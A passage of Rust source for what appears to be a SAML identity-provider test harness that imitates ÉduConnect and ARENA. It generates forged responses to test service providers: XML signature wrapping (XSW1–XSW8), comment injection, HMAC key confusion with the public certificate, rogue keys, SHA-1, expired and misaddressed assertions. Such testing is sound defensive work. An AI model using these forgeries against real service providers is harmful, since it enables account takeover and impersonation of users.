//! EduConnect and ARENA as SAML 2.0 identity providers: metadata, SSO
//! (HTTP-Redirect and HTTP-POST bindings in, HTTP-POST binding out), SLO.
//!
//! Responses are written here as XML text, so that each attack changes
//! exactly one thing. They are signed by libxmlsec1 through samael
//! (enveloped signature, exclusive c14n, RSA-SHA256, SHA-256 digest) on the
//! `Response`, the `Assertion` or both, as the target says; the default is
//! a Shibboleth IdP's, which EduConnect is: the response signed, the
//! assertion not. When the candidate's SP metadata publishes an encryption
//! key, assertions are encrypted for it (`encrypt`). The `xmlsec1` command
//! verifies and decrypts them in the tests.

use std::collections::HashMap;
use std::io::Read as _;
use std::sync::Arc;

use axum::extract::{Form, Query, State};
use axum::http::{HeaderMap, StatusCode, Uri, header};
use axum::response::{Html, IntoResponse, Redirect, Response};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use chrono::{DateTime, Duration, SecondsFormat, Utc};
use samael::crypto::{Crypto, CryptoProvider};
use samael::schema::AuthnRequest;

use super::pages::{error_page, interactive_login, logged_out_page};
use super::{
    ARENA_PATH, Attack, EDUCONNECT_PATH, Identity, Idp, IdpError, SamlPost, SamlSubject,
    SignaturePlacement, SigningKey, base, random_token, session_from_cookies,
};
use crate::evidence::{Address, Exchange, Raw, RawBody};
use crate::text::escape_xml;

/// Which national service answers.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Service {
    /// EduConnect (pupils, parents).
    EduConnect,
    /// The agents' guichet (teachers).
    Arena,
}

impl Service {
    pub(crate) fn path(self) -> &'static str {
        match self {
            Self::EduConnect => EDUCONNECT_PATH,
            Self::Arena => ARENA_PATH,
        }
    }

    pub(crate) fn label(self) -> &'static str {
        match self {
            Self::EduConnect => "ÉduConnect",
            Self::Arena => "guichet agents (ARENA)",
        }
    }

    fn sso_redirect(self) -> &'static str {
        match self {
            Self::EduConnect => "/profile/SAML2/Redirect/SSO",
            Self::Arena => "/SSO",
        }
    }

    fn sso_post(self) -> &'static str {
        match self {
            Self::EduConnect => "/profile/SAML2/POST/SSO",
            Self::Arena => "/SSO/POST",
        }
    }

    /// Where a login at the IdP's initiative starts (Shibboleth's path).
    pub(crate) fn unsolicited(self) -> &'static str {
        match self {
            Self::EduConnect => "/profile/SAML2/Unsolicited/SSO",
            Self::Arena => "/Unsolicited/SSO",
        }
    }

    fn slo(self) -> &'static str {
        match self {
            Self::EduConnect => "/profile/SAML2/Redirect/SLO",
            Self::Arena => "/SLO",
        }
    }

    fn entity_id(self, idp: &Idp) -> String {
        format!("{}{}", base(&idp.settings().public_url), self.path())
    }
}

/// The IdP's SAML metadata (an `EntityDescriptor` with its signing
/// certificate and SSO/SLO endpoints).
pub(crate) fn metadata(idp: &Idp, service: Service) -> Response {
    let entity = service.entity_id(idp);
    let xml = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?>
<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" xmlns:ds="http://www.w3.org/2000/09/xmldsig#" entityID="{entity}">
  <md:IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol" WantAuthnRequestsSigned="false">
    <md:KeyDescriptor use="signing">
      <ds:KeyInfo><ds:X509Data><ds:X509Certificate>{cert}</ds:X509Certificate></ds:X509Data></ds:KeyInfo>
    </md:KeyDescriptor>
    <md:SingleLogoutService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="{entity}{slo}"/>
    <md:NameIDFormat>urn:oasis:names:tc:SAML:2.0:nameid-format:transient</md:NameIDFormat>
    <md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="{entity}{redirect}"/>
    <md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="{entity}{post}"/>
  </md:IDPSSODescriptor>
</md:EntityDescriptor>
"#,
        entity = escape_xml(&entity),
        cert = idp.key().cert_base64(),
        slo = service.slo(),
        redirect = service.sso_redirect(),
        post = service.sso_post(),
    );
    (
        [(header::CONTENT_TYPE, "application/samlmetadata+xml")],
        xml,
    )
        .into_response()
}

/// `GET …/SSO?SAMLRequest=…` (deflated) or `POST …/SSO` (plain base64).
pub(crate) fn sso(
    idp: &Arc<Idp>,
    service: Service,
    headers: &HeaderMap,
    params: &HashMap<String, String>,
    deflated: bool,
    return_to: &str,
) -> Response {
    let Some(token) = served_scenario(idp, headers) else {
        return interactive_login(idp, return_to);
    };
    let refuse = |problem: String| {
        idp.event(
            &token,
            format!("requête SAML refusée par l'IdP : {problem}"),
        );
        error_page(StatusCode::BAD_REQUEST, &problem)
    };
    let request = match params
        .get("SAMLRequest")
        .ok_or_else(|| "SAMLRequest manquant".to_owned())
        .and_then(|encoded| decode_request(encoded, deflated))
    {
        Ok(request) => request,
        Err(problem) => return refuse(problem),
    };
    let Some(sp) = request.issuer.as_ref().and_then(|i| i.value.clone()) else {
        return refuse("AuthnRequest sans Issuer".to_owned());
    };
    let index = request
        .assertion_consumer_service_index
        .and_then(|i| u32::try_from(i).ok());
    let acs = match consumer_of(
        idp,
        ("Issuer", &sp),
        request.assertion_consumer_service_url.as_deref(),
        index,
        "AuthnRequest sans AssertionConsumerServiceURL (et aucune métadonnée de fournisseur de service enregistrée pour le retrouver par index)",
    ) {
        Ok(acs) => acs,
        Err(problem) => return refuse(problem),
    };
    let opening = format!("AuthnRequest {} de {sp} reçue", request.id);
    answer(
        idp,
        &token,
        service,
        Addressing {
            acs,
            audience: sp,
            in_response_to: Some(request.id),
        },
        params.get("RelayState").cloned(),
        &opening,
    )
}

/// `GET …/Unsolicited/SSO?providerId=…[&shire=…][&target=…]`: a login the
/// IdP starts on its own (Shibboleth's unsolicited SSO, SAML profiles
/// §4.1.5), answered without `InResponseTo` at the service provider's
/// default consumer service (or `shire`, if its metadata lists it), with
/// `target` as the `RelayState`.
pub(crate) fn unsolicited(
    idp: &Arc<Idp>,
    service: Service,
    headers: &HeaderMap,
    params: &HashMap<String, String>,
    return_to: &str,
) -> Response {
    let Some(token) = served_scenario(idp, headers) else {
        return interactive_login(idp, return_to);
    };
    let refuse = |problem: String| {
        idp.event(
            &token,
            format!("connexion non sollicitée refusée par l'IdP : {problem}"),
        );
        error_page(StatusCode::BAD_REQUEST, &problem)
    };
    let Some(sp) = params.get("providerId").filter(|p| !p.trim().is_empty()) else {
        return refuse("providerId manquant : quel fournisseur de service servir ?".to_owned());
    };
    let acs = match consumer_of(
        idp,
        ("providerId", sp),
        params.get("shire").map(String::as_str),
        None,
        "ni shire ni métadonnées de fournisseur de service enregistrées : où envoyer la réponse ?",
    ) {
        Ok(acs) => acs,
        Err(problem) => return refuse(problem),
    };
    let opening = format!("connexion à l'initiative de l'IdP vers {sp}, sans AuthnRequest");
    answer(
        idp,
        &token,
        service,
        Addressing {
            acs,
            audience: sp.clone(),
            in_response_to: None,
        },
        params.get("target").cloned(),
        &opening,
    )
}

/// The scenario of the browser's IdP cookie, counted as one login served;
/// `None` when it holds none (a person exploring, who gets the interactive
/// login page).
fn served_scenario(idp: &Idp, headers: &HeaderMap) -> Option<String> {
    let cookie = headers.get(header::COOKIE).and_then(|v| v.to_str().ok());
    let token = session_from_cookies(cookie).filter(|t| idp.scenario(t).is_some())?;
    idp.with_log(&token, |log| log.authn_requests += 1);
    Some(token)
}

/// Where a response for `sp` (named by the message's `field`) goes. A
/// registered SP is answered only at a consumer service of its metadata
/// (the one `url` or `index` names, else its default), as a Shibboleth IdP
/// does; without metadata, at `url`, and without it either, `missing`.
fn consumer_of(
    idp: &Idp,
    (field, sp): (&str, &str),
    url: Option<&str>,
    index: Option<u32>,
    missing: &str,
) -> Result<String, String> {
    match &idp.settings().saml.sp {
        Some(registered) if registered.entity_id != sp => Err(format!(
            "fournisseur de service inconnu : {field} « {sp} », alors que les métadonnées enregistrées sont celles de « {} »",
            registered.entity_id
        )),
        Some(registered) => registered.consumer(url, index).map(str::to_owned),
        None => url.map(str::to_owned).ok_or_else(|| missing.to_owned()),
    }
}

/// The response for the scenario of `token`, recorded, and handed to the
/// browser as the form that posts itself to `addressing.acs`.
fn answer(
    idp: &Arc<Idp>,
    token: &str,
    service: Service,
    addressing: Addressing,
    relay_state: Option<String>,
    opening: &str,
) -> Response {
    let Some(scenario) = idp.scenario(token) else {
        return error_page(StatusCode::BAD_REQUEST, "session inconnue");
    };
    let issued = match respond(
        idp,
        service,
        &addressing,
        &scenario.identity,
        scenario.victim.as_ref(),
        scenario.attack,
    ) {
        Ok(issued) => issued,
        Err(error) => return error_page(StatusCode::INTERNAL_SERVER_ERROR, &error.to_string()),
    };
    let acs = &addressing.acs;
    let signed = &issued.xml;
    let encoded = STANDARD.encode(signed.as_bytes());
    let Ok(acs_url) = reqwest::Url::parse(acs) else {
        return error_page(
            StatusCode::BAD_REQUEST,
            "AssertionConsumerServiceURL invalide",
        );
    };
    idp.event(
        token,
        match scenario.attack {
            Some(attack) if attack.is_saml() => format!(
                "{opening} ; réponse {} envoyée vers {acs} : {}",
                service.label(),
                attack.description_fr()
            ),
            _ => format!(
                "{opening} ; réponse {} valide pour {} envoyée vers {acs}",
                service.label(),
                scenario.identity.display_name()
            ),
        },
    );
    idp.with_log(token, |log| {
        log.saml_post = Some(SamlPost {
            acs: acs_url,
            response: encoded.clone(),
            relay_state: relay_state.clone(),
        });
        log.saml_subject = Some((service, issued.subject.clone()));
    });
    idp.record(token, |sink, id| {
        let mut shown = readable(signed);
        for clear in &issued.cleartext {
            shown.push_str(
                "\n\n<!-- assertion chiffrée pour le fournisseur de service, en clair : -->\n",
            );
            shown.push_str(&readable(clear));
        }
        let address = format!("{acs} (réponse SAML remise au navigateur par l'IdP)");
        Exchange::capture(
            &sink.redactor,
            Raw {
                id,
                method: "POST",
                address: Address::Text(&address),
                request_headers: Vec::new(),
                request_body: None,
                status: Some(200),
                response_headers: vec![(
                    "content-type".to_owned(),
                    "application/samlassertion+xml".to_owned(),
                )],
                body: Some(RawBody::Text {
                    media_type: None,
                    text: &shown,
                    size: signed.len() as u64,
                    sha256: None,
                    whole: false,
                }),
                started_at: sink.clock.now(),
                duration_ms: 0,
                error: None,
            },
        )
    });
    Html(auto_post(acs, &encoded, relay_state.as_deref())).into_response()
}

/// The status a `LogoutResponse` (HTTP-Redirect, deflated) carries, or why
/// it cannot be read.
fn logout_status(encoded: &str) -> String {
    let text = match unravel(encoded, true) {
        Ok(text) => text,
        Err(why) => return format!("illisible ({why})"),
    };
    let Ok(document) = roxmltree::Document::parse(&text) else {
        return "illisible (pas du XML)".to_owned();
    };
    document
        .descendants()
        .find(|n| n.tag_name().name() == "StatusCode")
        .and_then(|n| n.attribute("Value"))
        .map_or_else(
            || "sans StatusCode".to_owned(),
            |value| format!("statut {}", value.rsplit(':').next().unwrap_or(value)),
        )
}

/// The XML a SAML message parameter carries: base64, deflated at the
/// HTTP-Redirect binding (at most 1 MiB once inflated), or why not.
fn unravel(encoded: &str, deflated: bool) -> Result<String, &'static str> {
    let bytes = STANDARD
        .decode(encoded.trim())
        .map_err(|_| "pas du base64")?;
    if !deflated {
        return String::from_utf8(bytes).map_err(|_| "pas de l'UTF-8");
    }
    let mut text = String::new();
    flate2::read::DeflateDecoder::new(bytes.as_slice())
        .take(1 << 20)
        .read_to_string(&mut text)
        .map_err(|_| "pas compressé en DEFLATE")?;
    Ok(text)
}

fn decode_request(encoded: &str, deflated: bool) -> Result<AuthnRequest, String> {
    let xml = unravel(encoded, deflated).map_err(|why| format!("SAMLRequest n'est {why}"))?;
    xml.parse::<AuthnRequest>()
        .map_err(|error| format!("AuthnRequest illisible : {error}"))
}

/// The auto-submitted form of the HTTP-POST binding (SAML bindings §3.5).
fn auto_post(acs: &str, response: &str, relay_state: Option<&str>) -> String {
    let relay = relay_state
        .map(|relay| {
            format!(
                r#"<input type="hidden" name="RelayState" value="{}">"#,
                escape_xml(relay)
            )
        })
        .unwrap_or_default();
    format!(
        r#"<!DOCTYPE html>
<html lang="fr"><head><meta charset="utf-8"><title>Connexion en cours</title></head>
<body onload="document.forms[0].submit()">
<form method="post" action="{action}">
<input type="hidden" name="SAMLResponse" value="{response}">{relay}
<noscript><button type="submit">Continuer</button></noscript>
</form></body></html>
"#,
        action = escape_xml(acs),
    )
}

/// The other service provider of the audience attacks.
const OTHER_SP: &str = "urn:entconf:autre-fournisseur-de-service";

/// Where a response goes and whom it answers.
pub(crate) struct Addressing {
    pub(crate) acs: String,
    pub(crate) audience: String,
    /// The request answered; `None` for an unsolicited response, which
    /// carries no `InResponseTo` (SAML profiles §4.1.5).
    pub(crate) in_response_to: Option<String>,
}

/// A response as the IdP posts it, and the assertions it carries in
/// clear (for the evidence: an encrypted assertion tells a reviewer
/// nothing).
pub(crate) struct Issued {
    pub(crate) xml: String,
    pub(crate) cleartext: Vec<String>,
    /// Whom the genuine assertion names, for a later logout.
    pub(crate) subject: SamlSubject,
}

/// A `samlp:Response` for `identity`, signed and encrypted as the settings
/// say, wrong in exactly the way `attack` says.
pub(crate) fn respond(
    idp: &Idp,
    service: Service,
    addressing: &Addressing,
    identity: &Identity,
    victim: Option<&Identity>,
    attack: Option<Attack>,
) -> Result<Issued, IdpError> {
    let settings = idp.settings().saml;
    let now = idp.clock.now();
    let issuer = service.entity_id(idp);
    let mut assertion = AssertionParts {
        id: format!("_a{}", hex_id()),
        issuer: issuer.clone(),
        issue_instant: now,
        not_before: now - Duration::seconds(30),
        not_on_or_after: now + Duration::minutes(5),
        recipient: addressing.acs.clone(),
        audience: addressing.audience.clone(),
        sp_name_qualifier: addressing.audience.clone(),
        in_response_to: addressing.in_response_to.clone(),
        identity: identity.clone(),
        name_id: format!("_n{}", hex_id()),
        session_index: format!("_s{}", hex_id()),
    };
    let subject = SamlSubject {
        name_id: assertion.name_id.clone(),
        session_index: assertion.session_index.clone(),
        name_qualifier: assertion.issuer.clone(),
        sp_name_qualifier: assertion.sp_name_qualifier.clone(),
    };
    let mut destination = addressing.acs.clone();
    let elsewhere = "https://autre-ent.example.test/auth/saml/acs".to_owned();
    match attack {
        Some(Attack::SamlWrongAudience) => {
            assertion.audience = OTHER_SP.to_owned();
        }
        Some(Attack::SamlForwarded) => {
            assertion.audience = OTHER_SP.to_owned();
            assertion.sp_name_qualifier = OTHER_SP.to_owned();
            assertion.recipient = elsewhere.clone();
            assertion.in_response_to = Some(format!("_autre{}", hex_id()));
            destination = elsewhere;
        }
        Some(Attack::SamlWrongRecipient) => assertion.recipient = elsewhere,
        Some(Attack::SamlWrongDestination) => destination = elsewhere,
        Some(Attack::SamlExpired) => {
            assertion.issue_instant = now - Duration::minutes(20);
            assertion.not_before = now - Duration::minutes(20);
            assertion.not_on_or_after = now - Duration::minutes(10);
        }
        _ => {}
    }
    let signer = match attack {
        Some(Attack::SamlUnsigned) => None,
        Some(Attack::SamlUnknownKey) => Some(Signer::new(idp.rogue_key(), KeyForm::Certificate)?),
        Some(Attack::SamlKeyValue) => Some(Signer::new(idp.rogue_key(), KeyForm::KeyValue)?),
        Some(Attack::SamlHmacPublicCert) => Some(Signer::new(idp.key(), KeyForm::Hmac)?),
        Some(Attack::SamlSha1Signature) => Some(Signer::new(idp.key(), KeyForm::Sha1)?),
        _ => Some(Signer::new(idp.key(), KeyForm::Certificate)?),
    };
    // An SP whose metadata sets `WantAssertionsSigned` gets its
    // assertions signed too (SAML metadata §2.4.4).
    let wants_assertion_signed = settings
        .sp
        .as_ref()
        .is_some_and(|sp| sp.want_assertions_signed && sp.entity_id == addressing.audience);
    // Each wrapping shape needs the signature where the paper puts it,
    // whatever the target's placement: XSW1 and XSW2 wrap a signed
    // response, the others a signed assertion in an unsigned response.
    let wrapping = attack.filter(|a| a.has_victim());
    let placement = match (wrapping, settings.signature) {
        (Some(Attack::SamlXsw1 | Attack::SamlXsw2), _) => SignaturePlacement::Response,
        (Some(_), _) => SignaturePlacement::Assertion,
        // A relayed assertion keeps only its own signature: the response
        // around it was rebuilt by the SP that relays it.
        (None, _) if attack == Some(Attack::SamlForwarded) => SignaturePlacement::Assertion,
        (None, SignaturePlacement::Response) if wants_assertion_signed => SignaturePlacement::Both,
        (None, placement) => placement,
    };
    let assertion_signer = signer.as_ref().filter(|_| placement.signs_assertion());
    let response_signer = signer.as_ref().filter(|_| placement.signs_response());
    let evil = victim.map(|victim| AssertionParts {
        id: format!("_a{}", hex_id()),
        identity: victim.clone(),
        ..assertion.clone()
    });
    // The comment variant signs a join key that extends the victim's.
    let cut = match (attack, victim) {
        (Some(Attack::SamlCommentInjection), Some(Identity::EduConnect { ref_ids, .. })) => {
            ref_ids.first().map(|victim_key| {
                if let Identity::EduConnect { ref_ids, .. } = &mut assertion.identity {
                    *ref_ids = vec![format!("{victim_key}{COMMENT_TAIL}")];
                }
                escape_xml(victim_key)
            })
        }
        _ => None,
    };
    let mut genuine = match assertion_signer {
        Some(signer) => signer.sign(&assertion.to_xml(Some(signer)))?,
        None => assertion.to_xml(None),
    };
    if let Some(victim_key) = cut {
        genuine = genuine.replacen(
            &format!(">{victim_key}{COMMENT_TAIL}<"),
            &format!(">{victim_key}<!---->{COMMENT_TAIL}<"),
            1,
        );
    }
    let (extensions, carried) = match (wrapping, &evil) {
        (Some(Attack::SamlXsw1 | Attack::SamlXsw2 | Attack::SamlCommentInjection) | None, _)
        | (_, None) => (None, vec![genuine]),
        (Some(shape), Some(evil)) => wrap(shape, &genuine, evil),
    };
    let encryption = settings.encryption_for(&addressing.audience);
    let seal = |clear: &[String]| -> Result<String, IdpError> {
        match encryption {
            Some(to) => clear
                .iter()
                .map(|one| super::encrypt::encrypt_assertion(one, to, &addressing.audience))
                .collect(),
            None => Ok(clear.concat()),
        }
    };
    let response = |id: &str, before_status: &str, body: &str| {
        format!(
            r#"<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="{id}" Version="2.0" IssueInstant="{instant}" Destination="{destination}"{irt}><saml:Issuer>{issuer}</saml:Issuer>{before_status}<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>{body}</samlp:Response>"#,
            instant = instant(assertion.issue_instant),
            destination = escape_xml(&destination),
            irt = in_response_to(assertion.in_response_to.as_deref()),
            issuer = escape_xml(&issuer),
        )
    };
    let id = format!("_r{}", hex_id());
    let signature = response_signer
        .map(|signer| signer.template(&id))
        .unwrap_or_default();
    let extensions = extensions
        .map(|inner| format!("<samlp:Extensions>{inner}</samlp:Extensions>"))
        .unwrap_or_default();
    let document = response(&id, &format!("{signature}{extensions}"), &seal(&carried)?);
    // libxmlsec1 signs the first `Signature` template of the document in
    // document order: the response's, which precedes the assertions.
    let mut xml = match response_signer {
        Some(signer) => signer.sign(&document)?,
        None => document,
    };
    let mut cleartext = carried;
    if let (Some(shape @ (Attack::SamlXsw1 | Attack::SamlXsw2)), Some(evil)) = (wrapping, evil) {
        // A new response for the victim around the signed original.
        let (original, signature) = split_signature(&xml);
        let around = match shape {
            Attack::SamlXsw1 => inside_signature(&signature, &original),
            _ => format!("{original}{signature}"),
        };
        let evil = evil.to_xml(None);
        xml = response(
            &format!("_r{}", hex_id()),
            &around,
            &seal(std::slice::from_ref(&evil))?,
        );
        cleartext.push(evil);
    }
    Ok(Issued {
        xml,
        cleartext: if encryption.is_some() {
            cleartext
        } else {
            Vec::new()
        },
        subject,
    })
}

/// How a `LogoutRequest` reaches the service provider, per the binding of
/// its `SingleLogoutService`.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum LogoutDelivery {
    /// HTTP-Redirect: the URL, the query signed (SAML bindings §3.4.4.1).
    Redirect(reqwest::Url),
    /// HTTP-POST: the form to post, the request signed inside (§3.5.4).
    Post {
        /// The SP's logout service.
        url: reqwest::Url,
        /// `SAMLRequest` (base64 of the signed XML).
        fields: Vec<(String, String)>,
    },
}

/// A `LogoutRequest` for `subject` toward the SP's `logout` service: over
/// HTTP-Redirect, deflated with the query signed in RSA-SHA256; over
/// HTTP-POST, with an enveloped RSA-SHA256 signature.
pub(crate) fn logout_request(
    idp: &Idp,
    service: Service,
    subject: &SamlSubject,
    logout: &super::sp::LogoutService,
) -> Result<LogoutDelivery, IdpError> {
    use std::io::Write as _;
    let now = idp.clock.now();
    let id = format!("_l{}", hex_id());
    let url = reqwest::Url::parse(&logout.location).map_err(|error| {
        IdpError::Crypto(format!(
            "SingleLogoutService « {} » n'est pas une URL : {error}",
            logout.location
        ))
    })?;
    let post = logout.binding == super::sp::HTTP_POST;
    let signer = Signer::new(idp.key(), KeyForm::Certificate)?;
    let xml = format!(
        r#"<samlp:LogoutRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="{id}" Version="2.0" IssueInstant="{instant}" Destination="{destination}"><saml:Issuer>{issuer}</saml:Issuer>{signature}<saml:NameID Format="urn:oasis:names:tc:SAML:2.0:nameid-format:transient" NameQualifier="{qualifier}" SPNameQualifier="{sp}">{name_id}</saml:NameID><samlp:SessionIndex>{session}</samlp:SessionIndex></samlp:LogoutRequest>"#,
        instant = instant(now),
        destination = escape_xml(&logout.location),
        issuer = escape_xml(&service.entity_id(idp)),
        signature = if post {
            signer.template(&id)
        } else {
            String::new()
        },
        qualifier = escape_xml(&subject.name_qualifier),
        sp = escape_xml(&subject.sp_name_qualifier),
        name_id = escape_xml(&subject.name_id),
        session = escape_xml(&subject.session_index),
    );
    if post {
        let signed = signer.sign(&xml)?;
        return Ok(LogoutDelivery::Post {
            url,
            fields: vec![("SAMLRequest".to_owned(), STANDARD.encode(signed))],
        });
    }
    let mut deflater =
        flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
    let deflated = deflater
        .write_all(xml.as_bytes())
        .and_then(|()| deflater.finish())
        .map_err(|error| IdpError::Crypto(error.to_string()))?;
    let encode = |text: &str| {
        percent_encoding::utf8_percent_encode(text, percent_encoding::NON_ALPHANUMERIC).to_string()
    };
    let query = format!(
        "SAMLRequest={}&SigAlg={}",
        encode(&STANDARD.encode(deflated)),
        encode(RSA_SHA256)
    );
    let signature = idp.key().sign_rs256(query.as_bytes())?;
    let signed = format!("{query}&Signature={}", encode(&STANDARD.encode(signature)));
    let mut url = url;
    let full = match url.query() {
        Some(existing) if !existing.is_empty() => format!("{existing}&{signed}"),
        _ => signed,
    };
    url.set_query(Some(&full));
    Ok(LogoutDelivery::Redirect(url))
}

/// What the comment variant appends to the victim's join key.
const COMMENT_TAIL: &str = ".entconf";

/// An assertion-level wrapping `shape` of the signed `genuine` assertion
/// and the unsigned `evil` one: what goes in the response's `Extensions`,
/// and its assertions in order.
fn wrap(shape: Attack, genuine: &str, evil: &AssertionParts) -> (Option<String>, Vec<String>) {
    let unsigned = evil.to_xml(None);
    let (bare, signature) = split_signature(genuine);
    match shape {
        Attack::SamlXsw4 => (None, vec![inside_element(&unsigned, genuine)]),
        Attack::SamlXsw5 => (None, vec![after_issuer(&unsigned, &signature), bare]),
        Attack::SamlXsw6 => (
            None,
            vec![after_issuer(
                &unsigned,
                &inside_signature(&signature, &bare),
            )],
        ),
        Attack::SamlXsw7 => (Some(genuine.to_owned()), vec![unsigned]),
        Attack::SamlXsw8 => (
            None,
            vec![after_issuer(
                &unsigned,
                &inside_signature(&signature, &format!("<ds:Object>{bare}</ds:Object>")),
            )],
        ),
        Attack::SamlDuplicateId => {
            let twin = AssertionParts {
                id: genuine_id(genuine).unwrap_or_else(|| evil.id.clone()),
                ..evil.clone()
            };
            (None, vec![twin.to_xml(None), genuine.to_owned()])
        }
        // XSW3.
        _ => (None, vec![unsigned, genuine.to_owned()]),
    }
}

/// `xml` without its first `ds:Signature` element, and that element.
fn split_signature(xml: &str) -> (String, String) {
    match outer(xml, "<ds:Signature", "</ds:Signature>") {
        Some(span) => (
            format!("{}{}", &xml[..span.start], &xml[span.end..]),
            xml[span].to_owned(),
        ),
        None => (xml.to_owned(), String::new()),
    }
}

/// `signature` with `content` as its last child.
fn inside_signature(signature: &str, content: &str) -> String {
    match signature.strip_suffix("</ds:Signature>") {
        Some(open) => format!("{open}{content}</ds:Signature>"),
        None => signature.to_owned(),
    }
}

/// The element `outer` with `content` as its last child.
fn inside_element(outer: &str, content: &str) -> String {
    match outer.rfind("</") {
        Some(at) => format!("{}{content}{}", &outer[..at], &outer[at..]),
        None => outer.to_owned(),
    }
}

/// The assertion `assertion` with `content` right after its `Issuer`.
fn after_issuer(assertion: &str, content: &str) -> String {
    let close = "</saml:Issuer>";
    match assertion.find(close) {
        Some(at) => {
            let cut = at + close.len();
            format!("{}{content}{}", &assertion[..cut], &assertion[cut..])
        }
        None => assertion.to_owned(),
    }
}

/// The `ID` of the first element of `xml`.
fn genuine_id(xml: &str) -> Option<String> {
    inner(xml, " ID=\"", "\"").map(|span| xml[span].to_owned())
}

/// How a signature names its key: the IdP's own form, or the forms of
/// SSO-21's unknown-key family.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum KeyForm {
    /// RSA-SHA256, the signing certificate in `X509Data`.
    Certificate,
    /// RSA-SHA256, the key as a bare `KeyValue` (modulus and exponent).
    KeyValue,
    /// RSA-SHA1 with SHA-1 digests, the certificate in `X509Data`: the
    /// legacy algorithms an SP should no longer accept.
    Sha1,
    /// HMAC-SHA1 keyed with the certificate's PEM text, the certificate in
    /// `X509Data` as if the IdP had signed: the key confusion of xml-crypto
    /// before 2.0.0 (GHSA-c27r-x354-4m68), whose only HMAC was SHA-1.
    Hmac,
}

const RSA_SHA256: &str = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256";
const SHA256: &str = "http://www.w3.org/2001/04/xmlenc#sha256";
const RSA_SHA1: &str = "http://www.w3.org/2000/09/xmldsig#rsa-sha1";
const SHA1: &str = "http://www.w3.org/2000/09/xmldsig#sha1";
const HMAC_SHA1: &str = "http://www.w3.org/2000/09/xmldsig#hmac-sha1";

/// A key and the form its signatures take.
struct Signer<'a> {
    key: &'a SigningKey,
    form: KeyForm,
    key_info: String,
}

impl<'a> Signer<'a> {
    fn new(key: &'a SigningKey, form: KeyForm) -> Result<Self, IdpError> {
        let key_info = match form {
            KeyForm::Certificate | KeyForm::Sha1 | KeyForm::Hmac => format!(
                "<ds:X509Data><ds:X509Certificate>{}</ds:X509Certificate></ds:X509Data>",
                key.cert_base64()
            ),
            KeyForm::KeyValue => {
                let (n, e) = key.public_numbers()?;
                format!(
                    "<ds:KeyValue><ds:RSAKeyValue><ds:Modulus>{}</ds:Modulus><ds:Exponent>{}</ds:Exponent></ds:RSAKeyValue></ds:KeyValue>",
                    STANDARD.encode(n),
                    STANDARD.encode(e)
                )
            }
        };
        Ok(Self {
            key,
            form,
            key_info,
        })
    }

    /// An enveloped signature template over the element `id`: exclusive
    /// c14n, RSA-SHA256 and SHA-256 digest (SHA-1 for that form), the key
    /// as the form says.
    fn template(&self, id: &str) -> String {
        let (method, digest) = match self.form {
            KeyForm::Sha1 => (RSA_SHA1, SHA1),
            KeyForm::Certificate | KeyForm::KeyValue | KeyForm::Hmac => (RSA_SHA256, SHA256),
        };
        format!(
            r#"<ds:Signature xmlns:ds="{DSIG}">{signed_info}<ds:SignatureValue></ds:SignatureValue><ds:KeyInfo>{key_info}</ds:KeyInfo></ds:Signature>"#,
            signed_info = signed_info(id, [method, digest], ""),
            key_info = self.key_info,
        )
    }

    /// `xml` with its first signature template filled, without the XML
    /// declaration libxml2 adds (the result is embedded in a response).
    fn sign(&self, xml: &str) -> Result<String, IdpError> {
        let signed = Crypto::sign_xml(xml.as_bytes(), &self.key.private_der()?)
            .map_err(|error| IdpError::Crypto(error.to_string()))?;
        let body = match signed.strip_prefix("<?xml") {
            Some(rest) => rest.split_once("?>").map_or(rest, |(_, after)| after),
            None => &signed,
        };
        let body = body.trim();
        match self.form {
            KeyForm::Hmac => hmac_resigned(body, &self.key.cert_pem()),
            KeyForm::Certificate | KeyForm::KeyValue | KeyForm::Sha1 => Ok(body.to_owned()),
        }
    }
}

const DSIG: &str = "http://www.w3.org/2000/09/xmldsig#";

/// A `SignedInfo` in its exclusive-c14n form (namespace declared on it,
/// empty elements written out), so that its bytes as sent are the bytes
/// signed: the HMAC variant is computed over exactly this text.
fn signed_info(id: &str, [method, digest_method]: [&str; 2], digest: &str) -> String {
    format!(
        r##"<ds:SignedInfo xmlns:ds="{DSIG}"><ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"></ds:CanonicalizationMethod><ds:SignatureMethod Algorithm="{method}"></ds:SignatureMethod><ds:Reference URI="#{id}"><ds:Transforms><ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"></ds:Transform><ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"></ds:Transform></ds:Transforms><ds:DigestMethod Algorithm="{digest_method}"></ds:DigestMethod><ds:DigestValue>{digest}</ds:DigestValue></ds:Reference></ds:SignedInfo>"##
    )
}

/// The HMAC variant: libxmlsec1 computed the reference's digest with RSA;
/// its `SignedInfo` is rewritten for HMAC-SHA1 and signed with `secret`
/// (the PEM text of the IdP's certificate, which every SP holds).
fn hmac_resigned(signed: &str, secret: &str) -> Result<String, IdpError> {
    let missing = || IdpError::Crypto("signature sans SignedInfo complet".to_owned());
    let span = outer(signed, "<ds:SignedInfo", "</ds:SignedInfo>").ok_or_else(missing)?;
    let (info_start, info_end) = (span.start, span.end);
    let info = &signed[span];
    let field = |open, close| inner(info, open, close).map(|span| &info[span]);
    let id = field("URI=\"#", "\"").ok_or_else(missing)?;
    let digest = field("<ds:DigestValue>", "</ds:DigestValue>").ok_or_else(missing)?;
